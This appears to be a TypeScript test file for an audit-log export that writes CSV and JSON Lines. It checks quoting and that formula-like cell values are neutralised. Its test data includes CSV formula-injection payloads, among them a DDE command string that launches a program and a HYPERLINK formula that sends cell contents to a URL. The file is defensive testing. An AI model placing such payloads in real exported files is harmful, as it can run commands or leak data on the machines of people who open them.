import type { AuditEventView } from '../../web/src/api/schema.js';
import { files } from '../../web/src/pages/audit/audit-file.js';

const event: AuditEventView = {
  id: '019aa2f0-6c1e-7b52-9d3c-0f6f3f1b2a10',
  at: '2026-01-02T03:04:05.678Z',
  actor: { kind: 'person', id: null, name: 'ann' },
  action: 'ticket.created',
  subject: { kind: 'ticket', id: 'SUP-1' },
  address: '192.0.2.7',
  requestId: 'r',
  details: {},
  seq: 7,
  hash: 'ab',
};
const named = (name: string): AuditEventView => ({ ...event, actor: { ...event.actor, name } });

/** What a program that keeps to RFC 4180, but for its separator, finds in a row. */
const cellsOf = (row: string, separator = ','): string[] => {
  const cells: string[] = [];
  let rest = row.replace(/\r\n$/, '');
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const plain = rest.split(separator)[0] ?? '';
    cells.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') : plain);
    rest = rest.slice(quoted ? quoted[0].length : plain.length);
    if (rest === '') return cells;
    rest = rest.slice(separator.length);
  }
};
const second = (name: string): string => cellsOf(files.csv.line(named(name)))[1] ?? '';

describe('the audit as CSV', () => {
  it('has a column for all that an event says', () => {
    expect(files.csv.head).toBe(
      '\uFEFFat,actor,actorKind,actorId,action,subjectKind,subjectId,address,requestId,details,id,seq,hash\r\n',
    );
    expect(cellsOf(files.csv.line(event))).toEqual([
      event.at,
      ...['ann', 'person', '', 'ticket.created', 'ticket', 'SUP-1', '192.0.2.7', 'r', '{}'],
      ...[event.id, '7', 'ab'],
    ]);
    expect(cellsOf(files.csv.line({ ...event, seq: null, hash: null })).slice(-2)).toEqual([
      '',
      '',
    ]);
  });

  it.each(['a,b', 'a"b', '"a"', 'a\nb', "it's", 'a - b', 'a=b', 'x@y', 'a; b', 'ü 日本'])(
    'leaves %j as it is',
    (name) => expect(second(name)).toBe(name),
  );

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tplain',
    '\rplain',
    '  =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://example.com?"&A1,"click")',
    `=cmd|' /C calc'!A0`,
  ])('makes text of %j', (name) => {
    expect(second(name)).toMatch(/^'/);
    expect(second(name).replaceAll("'", '')).toBe(name.replaceAll("'", ''));
  });

  it.each([
    'a;=1',
    'a; =1',
    'a;"=1"',
    'a";=1;"',
    'a\t=1',
    'a\n=1',
    'a\r\n-1',
    ';;@x',
    'a;+1;-2',
    'a\n"=1',
  ])(
    'begins no formula in the middle of %j, whatever separates and whatever ends a line',
    (name) => {
      const texts = [
        files.csv.line(named(name)),
        files.csv.line({ ...event, details: { filename: name } }),
      ];
      for (const text of texts)
        for (const line of text.split(/[\r\n]+/))
          for (const cell of line.split(/[;\t]/).map((part) => part.replace(/^[\s"]+/, '')))
            expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
    },
  );
});

describe('the audit as JSON Lines', () => {
  it('is exact, and each line begins with a brace', () => {
    const one = named('\n=1;=2');
    const line = files.jsonLines.line(one);
    expect(JSON.parse(line)).toEqual(one);
    expect(line).toMatch(/^\{[^\r\n]*\}\n$/);
  });
});
